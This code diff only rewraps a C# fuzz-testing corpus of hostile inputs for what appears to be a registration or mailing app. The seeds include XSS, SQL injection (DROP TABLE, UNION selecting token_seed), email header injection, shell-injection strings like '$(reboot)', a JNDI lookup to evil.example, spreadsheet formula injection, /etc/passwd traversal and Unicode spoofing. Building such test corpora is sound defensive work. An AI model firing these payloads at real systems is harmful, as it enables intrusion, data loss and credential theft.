@@ -28,41 +28,59 @@ public static class HostileCorpus
             // markup and script
             "<x-fz>", "<x-fz onmouseover=alert(1)>", "\"><x-fz onfocus=alert(1) autofocus>", "'><x-fz onclick='alert(1)'>",
             "<script>alert(document.domain)</script>", "</title><x-fz>", "</textarea><x-fz>", "</script><x-fz>",
-            "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
-            "javascript:alert(1)", "data:text/html,<x-fz>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=alert(1) `",
-            "<!--", "-->", "<![CDATA[<x-fz>]]>", "<style>*{}</style>", "&lt;x-fz&gt;", "&#60;x-fz&#62;", "&quot;&apos;", "{{constructor.constructor('alert(1)')()}}",
+            "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>",
+            "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
+            "javascript:alert(1)", "data:text/html,<x-fz>", "\" onmouseover=\"alert(1)",
+            "' onmouseover='alert(1)", "` onmouseover=alert(1) `",
+            "<!--", "-->", "<![CDATA[<x-fz>]]>", "<style>*{}</style>", "&lt;x-fz&gt;",
+            "&#60;x-fz&#62;", "&quot;&apos;", "{{constructor.constructor('alert(1)')()}}",
             "@{ throw null; }", "@(1+1)", "<%= 7*7 %>", "#{7*7}", "${{7*7}}",
             // header and line injection
-            "\r\nBcc: victim@example.com", "\nSet-Cookie: fz=1", "\rX-Injected: 1", "%0d%0aLocation: https://evil.example", "\u2028\u2029", "\u0085",
+            "\r\nBcc: victim@example.com", "\nSet-Cookie: fz=1", "\rX-Injected: 1",
+            "%0d%0aLocation: https://evil.example", "\u2028\u2029", "\u0085",
             "a@example.jp\r\nSubject: spam", "=?utf-8?b?PHgtZno+?=",
             // SQL and other interpreters
-            "' OR 1=1 --", "'; SELECT pg_sleep(10); --", "1; DROP TABLE outbox", "\\'; DELETE FROM registrations; --", "\" OR \"\"=\"", "') UNION SELECT token_seed FROM registrations --",
-            "%s%s%s%n", "{0}{1}", "$(reboot)", "`id`", "|| ls", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "+SUM(1,1)", "@SUM(1)",
+            "' OR 1=1 --", "'; SELECT pg_sleep(10); --", "1; DROP TABLE outbox", "\\'; DELETE FROM registrations; --",
+            "\" OR \"\"=\"", "') UNION SELECT token_seed FROM registrations --",
+            "%s%s%s%n", "{0}{1}", "$(reboot)", "`id`", "|| ls",
+            "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "+SUM(1,1)", "@SUM(1)",
             // paths and URLs
-            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "....//....//", "/etc/passwd\u0000.png",
+            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
+            "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "....//....//", "/etc/passwd\u0000.png",
             "//evil.example", "/\\evil.example", "https://evil.example/", "\\\\evil.example\\share", "/%09/evil.example", "/.",
             // numbers out of range and wrong shapes
-            "-1", "0", "-0", "2147483648", "-2147483649", "9223372036854775808", "99999999999999999999999999", "1e309", "-1e309", "NaN", "Infinity", "0x7fffffff", "1.7976931348623157E+309", "00000000001",
+            "-1", "0", "-0", "2147483648", "-2147483649", "9223372036854775808", "99999999999999999999999999",
+            "1e309", "-1e309", "NaN", "Infinity", "0x7fffffff", "1.7976931348623157E+309", "00000000001",
             "true", "false", "null", "[]", "{}", "[[[[[[[[[[]]]]]]]]]]", "{\"a\":{\"b\":{\"c\":{}}}}",
             // Unicode
-            "\u0000", "\u0001\u0002\u001b[31m", "\u007f", "\ufeffBOM", "\u200b\u200c\u200d\u2060", "\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
+            "\u0000", "\u0001\u0002\u001b[31m", "\u007f", "\ufeffBOM", "\u200b\u200c\u200d\u2060",
+            "\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
             "ｓｃｒｉｐｔ", "＜x-fz＞", "＂＞＜x-fz＞", "ℌ𝔢𝔩𝔩𝔬", "Ａｄｍｉｎ", "аdmin@ехаmple.jp", "ΑΒΓ", "𠮷野家", "👨‍👩‍👧‍👦", "🇯🇵", "ﾔﾏﾀﾞ", "ｶﾞ",
-            "e\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u0352\u0353\u0354\u0355\u0356", "\ud83d", "\udc00", "\uffff\ufffe", "\U000E0041\U000E0042",
+            "e\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u0352\u0353\u0354\u0355\u0356",
+            "\ud83d", "\udc00", "\uffff\ufffe", "\U000E0041\U000E0042",
             "السلام عليكم", "שלום", "髙橋", "ﷺ", "\u3000全角空白\u3000",
             // e-mail shapes
-            "a@b.c", "\"a b\"@example.jp", "a@[127.0.0.1]", "a@localhost", "a@example.jp,b@example.jp", "a@example.jp\u0000b@example.jp", "a+tag@example.jp",
+            "a@b.c", "\"a b\"@example.jp", "a@[127.0.0.1]", "a@localhost",
+            "a@example.jp,b@example.jp", "a@example.jp\u0000b@example.jp", "a+tag@example.jp",
             "very.long." + new string('x', 250) + "@example.jp", "x@" + new string('a', 64) + ".jp", "postmaster", "@", "a@@b.jp",
         ]);
         return seeds.Distinct(StringComparer.Ordinal).ToList();
     }
 
     static readonly string[] Invisible = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"];
-    static readonly string[] Bidi = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
-    static readonly string[] Controls = ["\u0000", "\u0001", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085", "\r", "\n", "\r\n", "\t"];
-    static readonly string[] Injections = ["\r\nBcc: victim@example.com", "\r\nSet-Cookie: fz=1", "\n\n<x-fz>", "%0d%0aX-Fz: 1", "\"><x-fz onmouseover=alert(1)>", "' OR '1'='1", "</x-fz><x-fz>"];
+    static readonly string[] Bidi =
+        ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
+    static readonly string[] Controls =
+        ["\u0000", "\u0001", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085", "\r", "\n", "\r\n", "\t"];
+    static readonly string[] Injections =
+    [
+        "\r\nBcc: victim@example.com", "\r\nSet-Cookie: fz=1", "\n\n<x-fz>",
+        "%0d%0aX-Fz: 1", "\"><x-fz onmouseover=alert(1)>", "' OR '1'='1", "</x-fz><x-fz>"
+    ];
     static readonly Dictionary<char, char> Confusables = new()
     {
-        ['a'] = 'а', ['e'] = 'е', ['o'] = 'о', ['p'] = 'р', ['c'] = 'с', ['x'] = 'х', ['y'] = 'у', ['i'] = 'і', ['s'] = 'ѕ', ['A'] = 'Α', ['B'] = 'Β', ['E'] = 'Ε', ['H'] = 'Η',
+        ['a'] = 'а', ['e'] = 'е', ['o'] = 'о', ['p'] = 'р', ['c'] = 'с', ['x'] = 'х', ['y'] = 'у',
+        ['i'] = 'і', ['s'] = 'ѕ', ['A'] = 'Α', ['B'] = 'Β', ['E'] = 'Ε', ['H'] = 'Η',
         ['<'] = '‹', ['>'] = '›', ['/'] = '⁄', ['@'] = '＠', ['.'] = '․', ['-'] = '‐',
     };
     static readonly int[] Lengths = [49, 50, 51, 99, 100, 101, 254, 255, 256, 1999, 2000, 2001, 4097, 70_000];
